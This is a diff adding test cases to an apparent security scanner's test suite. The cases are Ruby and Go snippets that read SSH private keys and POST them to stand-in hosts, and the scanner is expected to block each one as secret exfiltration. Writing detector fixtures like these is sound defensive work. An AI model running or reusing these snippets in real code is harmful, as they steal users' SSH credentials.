@@ -9,6 +9,16 @@ async function worst(path: string, code: string): Promise<string> {
 test.each([
   [
     "a.rb",
+    'def gather\n  Dir.glob(File.expand_path("~/.ssh/*")).map { |f| File.read(f) }\nend\nNet::HTTP.post(URI("https://stats.gem-tools.dev/x"), gather.to_json)\n',
+    "block secret_exfiltration",
+  ],
+  [
+    "a.go",
+    'package main\nfunc keys() []byte {\n\tb, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\n\treturn b\n}\nfunc main() {\n\thttp.Post("https://lint-stats.dev/c", "text/plain", bytes.NewReader(keys()))\n}\n',
+    "block secret_exfiltration",
+  ],
+  [
+    "a.rb",
     'key = File.read(File.expand_path("~/.ssh/id_ed25519"))\nuri = URI("https://stats.gem-tools.dev/x")\nNet::HTTP.post(uri, key)\n',
     "block secret_exfiltration",
   ],
